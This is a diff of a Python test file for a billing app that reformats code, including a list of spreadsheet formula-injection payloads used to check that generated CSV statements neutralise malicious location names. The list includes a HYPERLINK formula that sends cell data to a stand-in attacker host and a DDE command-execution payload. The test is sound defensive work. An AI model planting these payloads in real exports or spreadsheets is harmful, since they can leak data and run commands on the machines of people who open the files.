@@ -16,8 +16,14 @@ from billing.models import SessionCharge, StatementJob
 from billing.statements import statement_generate, statement_path
 from chargers.models import ChargingSession
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\t=1+1", "\r=1+1"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("value", ATTACKS)
@@ -61,11 +67,21 @@ def test_statements_neutralise_location_names(mine):
     mine.prop.save()
     started = timezone.now() - timedelta(days=1)
     SessionCharge.objects.create(
-        session=mine.session, organization=mine.org, currency="EUR", energy_wh=7000, started_at=started,
-        subtotal=Decimal("2.10"), tax=Decimal("0"), total=Decimal("2.10"),
+        session=mine.session,
+        organization=mine.org,
+        currency="EUR",
+        energy_wh=7000,
+        started_at=started,
+        subtotal=Decimal("2.10"),
+        tax=Decimal("0"),
+        total=Decimal("2.10"),
     )
-    job = StatementJob.objects.create(organization=mine.org, kind=StatementJob.Kind.SESSIONS,
-                                      date_from=timezone.localdate() - timedelta(days=7), date_to=timezone.localdate())
+    job = StatementJob.objects.create(
+        organization=mine.org,
+        kind=StatementJob.Kind.SESSIONS,
+        date_from=timezone.localdate() - timedelta(days=7),
+        date_to=timezone.localdate(),
+    )
     statement_generate(job_id=job.pk)
     with open(statement_path(StatementJob.objects.get(pk=job.pk)), newline="") as handle:
         rows = list(csv.DictReader(handle))
